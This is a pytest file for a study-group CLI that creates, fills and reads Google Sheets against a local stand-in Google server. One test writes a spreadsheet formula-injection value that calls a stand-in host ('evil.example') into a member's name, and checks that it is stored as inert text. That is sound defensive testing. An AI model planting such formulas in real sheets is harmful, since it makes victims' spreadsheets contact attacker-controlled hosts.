"""The commands that make and fill a Google Sheet, against the stand-in for Google."""

import json
import re
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from studylib import cli, clock
from studylib.changes import actions
from studylib.changes.history import read_history, undo_change
from studylib.config import studies
from studylib.form.bridge import MANIFEST, SCRIPT, list_steps, write_bridge
from studylib.season import board
from studylib.season.study import Excuse
from studylib.source import save
from studylib.stores.opening import open_store
from studylib.stores.xlsx import write
from studylib.workbook import layouts, reader, sample, template
from studylib.workbook.cells import Tab, Workbook
from tests.season import seasons
from tests.season.reference import SEOUL
from tests.stand_ins.googlesheets.server import Google
from tests.stores.google.empty_sheets import empty_sheet

NOW = datetime(2022, 5, 11, 0, 30, tzinfo=SEOUL)
FORM = Tab("설문지 응답 시트1", (("타임스탬프", "이름", "주차", "링크"),))
"""The form's own tab, before anybody has answered."""


@pytest.fixture
def google_(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Google]:
    """Google with an empty spreadsheet, to which the program may write."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("LANG", "en_US.UTF-8")
    monkeypatch.delenv("LC_ALL", raising=False)
    monkeypatch.delenv(studies.VARIABLE, raising=False)
    with empty_sheet(tmp_path, monkeypatch) as started:
        yield started


def run(*words: str) -> Result:
    result = CliRunner().invoke(cli.app, words)
    assert result.exception is None or isinstance(result.exception, SystemExit)
    return result


def titles(started: Google) -> list[str]:
    return [tab.title for tab in started.spreadsheet.tabs]


def read_back(started: Google) -> Workbook:
    return open_store(started.address).fetch()


def test_init_makes_every_tab_with_its_headers_a_frozen_row_and_the_studys_zone(google_: Google) -> None:
    result = run("sheet", "init", google_.address)
    assert result.exit_code == 0
    made = reader.read(read_back(google_))[0].identity
    assert re.fullmatch("s-[0-9a-f]{16}", made or "")
    wanted = template.make_template("ko", "Asia/Seoul", made)
    assert titles(google_) == ["시트1", *(tab.title for tab in wanted.tabs)]
    assert [tab.frozen_rows for tab in google_.spreadsheet.tabs[1:]] == [1] * len(wanted.tabs)
    assert [tab.rows for tab in read_back(google_).tabs[1:]] == [
        tuple(tuple(row) if row[-1] is not None else row[:-1] for row in tab.rows) for tab in wanted.tabs
    ]
    assert (google_.spreadsheet.zone, google_.spreadsheet.locale) == ("Asia/Seoul", "ko_KR")


def test_init_speaks_the_language_and_takes_the_zone_asked_for(google_: Google) -> None:
    run("sheet", "init", google_.address, "--language", "en", "--timezone", "Europe/Paris")
    assert "members" in titles(google_)
    assert (google_.spreadsheet.zone, google_.spreadsheet.locale) == ("Europe/Paris", "en_US")


@pytest.mark.parametrize("words", [("--language", "fr"), ("--timezone", "Mars/Olympus")])
def test_init_refuses_what_it_does_not_know_and_asks_google_nothing(
    google_: Google, words: tuple[str, ...]
) -> None:
    assert run("sheet", "init", google_.address, *words).exit_code == 2
    assert google_.count() == 0


def test_a_second_init_changes_nothing(google_: Google) -> None:
    run("sheet", "init", google_.address)
    before, mark = read_back(google_), google_.mark()
    result = run("sheet", "init", google_.address)
    assert "0 tabs written" in result.stdout
    assert google_.count("write", mark) == 0
    assert read_back(google_) == before


def test_init_fills_nothing_that_is_there_and_leaves_the_zone_of_times_alone(google_: Google) -> None:
    google_.spreadsheet.fill(Workbook((Tab("멤버", (("이름",), ("가람",))), FORM, Tab("주차", ()))))
    run("sheet", "init", google_.address)
    found = {tab.title: tab.rows for tab in read_back(google_).tabs}
    assert found["멤버"] == (("이름",), ("가람",))
    assert found[FORM.title] == FORM.rows
    assert found["주차"][0][0] == "주차"
    assert "설정" in found
    assert google_.spreadsheet.zone == "America/New_York"


@pytest.mark.parametrize("prepared", [False, True])
def test_push_copies_the_whole_season_and_the_board_is_the_same(google_: Google, prepared: bool) -> None:
    cells = sample.make_sample(NOW)
    write.write_xlsx(cells, "season.xlsx")
    if prepared:
        run("sheet", "init", google_.address)
    result = run("--workbook", "season.xlsx", "sheet", "push", google_.address)
    assert result.exit_code == 0, result.output
    study, problems = reader.read(cells)
    again, found = reader.read(read_back(google_))
    assert seasons.cells(board.judge(again, NOW)) == seasons.cells(board.judge(study, NOW))
    assert [each.message for each in found] == [each.message for each in problems]
    assert google_.spreadsheet.zone == "Asia/Seoul"
    assert "제출" in titles(google_)


def test_a_second_push_changes_nothing(google_: Google) -> None:
    write.write_xlsx(sample.make_sample(NOW), "season.xlsx")
    run("--workbook", "season.xlsx", "sheet", "push", google_.address)
    before, mark = read_back(google_), google_.mark()
    result = run("--workbook", "season.xlsx", "sheet", "push", google_.address)
    assert "0 tabs written" in result.stdout
    assert google_.count("write", mark) == 0
    assert read_back(google_) == before


def test_push_never_touches_the_forms_own_tab(google_: Google) -> None:
    google_.spreadsheet.fill(Workbook((FORM,)))
    write.write_xlsx(sample.make_sample(NOW), "season.xlsx")
    run("--workbook", "season.xlsx", "sheet", "push", google_.address)
    assert google_.spreadsheet.tab(FORM.title).rows == [list(FORM.rows[0])]
    assert not any(FORM.title in str(each.body) for each in google_.requests if each.kind == "write")


def test_texts_that_look_like_formulas_are_pushed_as_texts(google_: Google) -> None:
    evil = '=IMPORTDATA("http://evil.example/")'
    write.write_xlsx(
        seasons.book(members=seasons.tab("members", ("name",), (evil,), ("007",))), "season.xlsx"
    )
    run("--workbook", "season.xlsx", "sheet", "push", google_.address)
    assert google_.spreadsheet.tab("members").rows[1:] == [[evil], ["007"]]


@pytest.mark.parametrize("command", ["init", "push"])
def test_nothing_is_written_unless_writing_is_switched_on(
    google_: Google, tmp_path: Path, command: str
) -> None:
    (tmp_path / ".streamlit" / "secrets.toml").unlink()
    result = run("sheet", command, google_.address)
    assert result.exit_code == 2
    assert "set write = true" in result.stderr
    assert titles(google_) == ["시트1"]


@pytest.mark.parametrize("command", ["init", "push"])
def test_another_address_than_a_google_sheets_is_refused(google_: Google, command: str) -> None:
    result = run("sheet", command, "sqlite:///season.db")
    assert result.exit_code == 2
    assert "not the address of a Google Sheet" in result.stderr


def test_a_push_that_breaks_off_is_finished_by_the_next_one(google_: Google) -> None:
    write.write_xlsx(sample.make_sample(NOW), "season.xlsx")
    google_.on_request = lambda request: (
        google_.fault("503", times=1) if "values:batchUpdate" in request.path else None
    )
    result = run("--workbook", "season.xlsx", "sheet", "push", google_.address)
    assert result.exit_code == 2
    assert "did not confirm" in result.stderr
    google_.on_request = lambda request: None
    assert run("--workbook", "season.xlsx", "sheet", "push", google_.address).exit_code == 0
    assert len(read_back(google_).tabs[-1].rows) == len(sample.make_sample(NOW).tabs[-1].rows)


def test_the_form_script_names_the_sheet_it_is_for(google_: Google) -> None:
    run("sheet", "init", google_.address)
    google_.spreadsheet.fill(seasons.book())
    mark = google_.mark()
    result = run("--workbook", google_.address, "sheet", "form-script")
    assert result.exit_code == 0
    assert f'"sheet": "{google_.spreadsheet.id}"' in result.stdout
    assert google_.count("write", mark) == 0
    assert run("--workbook", google_.address, "sheet", "form-script").stdout == result.stdout


def test_the_form_script_of_another_workbook_is_for_the_sheet_in_which_it_is_pasted(google_: Google) -> None:
    write.write_xlsx(seasons.book(), "season.xlsx")
    result = run("--workbook", "season.xlsx", "sheet", "form-script", "--collect-addresses")
    assert '"sheet": null' in result.stdout
    assert '"addresses": true' in result.stdout


def test_a_form_without_members_is_refused_in_words(google_: Google) -> None:
    write.write_xlsx(seasons.book(members=seasons.tab("members", "name")), "season.xlsx")
    result = run("--workbook", "season.xlsx", "sheet", "form-script")
    assert result.exit_code == 2
    assert "no members yet" in result.stderr


# ---- a sheet as the source of a copy ----


def test_a_sheet_of_another_zone_is_exported_and_imported_without_moving_a_time(google_: Google) -> None:
    google_.spreadsheet.fill(
        seasons.book(
            answers=seasons.tab(
                "Form Responses 1",
                ("Timestamp", "name", "week", "link"),
                (datetime(2022, 4, 12, 10, 59), "가람", 1, "https://n.kr"),
            )
        )
    )
    study, _ = reader.read(read_back(google_))
    assert study.submissions["submitted_at"].iloc[0].isoformat() == "2022-04-12T23:59:00+09:00"
    assert run("--workbook", google_.address, "export", "copy.xlsx").exit_code == 0
    assert run("--workbook", "sqlite:///copy.db", "import", google_.address).exit_code == 0
    for address in ("copy.xlsx", "sqlite:///copy.db"):
        again, _ = reader.read(open_store(address).fetch())
        assert again.submissions.equals(study.submissions)


def test_a_month_is_closed_in_a_sheet_that_may_be_written(
    google_: Google, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(clock, "now", lambda: NOW)
    title, header = layouts.write_header(layouts.SETTLEMENTS, "ko")
    google_.spreadsheet.fill(seasons.book(settlements=Tab(title, (header,))))
    result = run("--workbook", google_.address, "close", "2022-04")
    assert result.exit_code == 0, result.output
    study, problems = reader.read(read_back(google_))
    assert [each for each in problems if not each.is_notice] == []  # the sheet is of another zone
    assert {(row.month, row.member) for row in study.settlements} == {
        ("2022-04", name) for name in ("가람", "나래", "다온")
    }
    assert run("--workbook", google_.address, "close", "2022-04").exit_code == 1
    assert reader.read(read_back(google_))[0].settlements == study.settlements
    assert {row.weeks for row in study.settlements} == {(1, 2, 3)}
    reopened = run("--workbook", google_.address, "reopen", "2022-04")
    assert (reopened.exit_code, reopened.stdout) == (0, "2022년 4월 reopened\n")
    assert [each.what for each in read_history(read_back(google_))] == [
        "2022년 4월 정산 다시 열기",
        "2022년 4월 정산 완료",
    ]


def test_a_sheet_without_a_column_for_the_weeks_gets_the_column_with_its_rows(
    google_: Google, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(clock, "now", lambda: NOW)
    _, header = layouts.write_header(layouts.SETTLEMENTS, "ko")
    google_.spreadsheet.fill(seasons.book(settlements=Tab("정산", (header[:6],))))
    result = run("--workbook", google_.address, "close", "2022-04")
    assert result.exit_code == 0
    study, problems = reader.read(read_back(google_))
    assert all(each.is_notice for each in problems)
    assert {row.weeks for row in study.settlements} == {(1, 2, 3)}
    assert [duty.settled_in for duty in study.duties] == ["2022-04"] * 3


# ---- the script of a sheet's own ----


@pytest.mark.parametrize("language", ["ko", "en"])
def test_the_template_prints_numbered_steps_and_the_files_to_paste(language: str) -> None:
    result = run("sheet", "template", "--language", language, "--timezone", "Europe/Paris")
    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    files = write_bridge(language, "Europe/Paris")
    steps = list_steps(language, files)
    assert lines[: len(steps)] == [f"{number}. {step}" for number, step in enumerate(steps, 1)]
    assert all(text in result.stdout and f"──── {name} ────" in lines for name, text in files.items())


def test_the_template_is_written_into_a_folder(tmp_path: Path) -> None:
    folder = tmp_path / "새 폴더" / "script"
    result = run("sheet", "template", "--out", str(folder))
    assert result.exit_code == 0
    files = write_bridge("ko", "Asia/Seoul")
    assert {path.name: path.read_text(encoding="utf-8") for path in folder.iterdir()} == files
    assert "doPost" not in result.stdout
    run("sheet", "template", "--no-form", "--out", str(tmp_path / "alone"))
    assert sorted(path.name for path in (tmp_path / "alone").iterdir()) == [MANIFEST, SCRIPT]


@pytest.mark.parametrize(
    "words",
    [("--language", "fr"), ("--timezone", "Mars/Base"), ("--timezone", ""), ("--out", "/proc/none/x")],
)
def test_a_template_of_unknown_words_is_refused(words: tuple[str, ...]) -> None:
    result = run("sheet", "template", *words)
    assert result.exit_code == 2
    assert "doPost" not in result.output


def test_a_readme_is_imported_as_one_change_beside_the_forms_tab_also_after_an_undo(
    google_: Google, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(clock, "now", lambda: NOW)
    google_.spreadsheet.fill(seasons.book())
    sheet = open_store(google_.address)
    save.save_change(sheet, lambda now: actions.excuse_member(now.cells, now.study, Excuse(1, "다온")), NOW)
    save.save_change(sheet, lambda now: undo_change(now.cells, 1), NOW)
    Path("README.md").write_text(
        "| | 가람 | 다온 |\n|---|---|---|\n| 2주차 | | [글](https://n.kr/d2) |\n| 3주차 | [글](https://n.kr/g3) | |\n"
    )
    result = run("--workbook", google_.address, "readme", "import", "README.md", "--assume-in-time")
    assert result.exit_code == 0, result.output
    made, _, _ = read_history(read_back(google_))
    assert {edit.title for edit in made.edits} == {"제출"}
    assert len(reader.read(read_back(google_))[0].submissions) == 4
    assert len(google_.spreadsheet.tab("Form Responses 1").rows) == 3


def test_a_member_is_erased_from_a_sheet_once_the_forms_tab_no_longer_names_them(
    google_: Google, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(clock, "now", lambda: NOW)
    members = seasons.tab("members", "name | left_on", "가람", "나래 | 2022-05-01")
    google_.spreadsheet.fill(seasons.book(members=members))
    first = run("--workbook", google_.address, "erase", "나래", "--yes", "--format", "json")
    assert first.exit_code == 1
    assert {each["tab"] for each in json.loads(first.stdout)} == {"Form Responses 1"}
    for each in json.loads(first.stdout):
        place = each["address"].rpartition("range=")[2]
        google_.spreadsheet.tab("Form Responses 1").edit(place, each["text"])
    assert "나래" in str(read_back(google_).tabs[1])
    assert run("--workbook", google_.address, "erase", "나래", "--yes").exit_code == 0
    assert "나래" not in str(read_back(google_))
    assert reader.read(read_back(google_))[0].members[1].name == "탈퇴한 멤버 1"
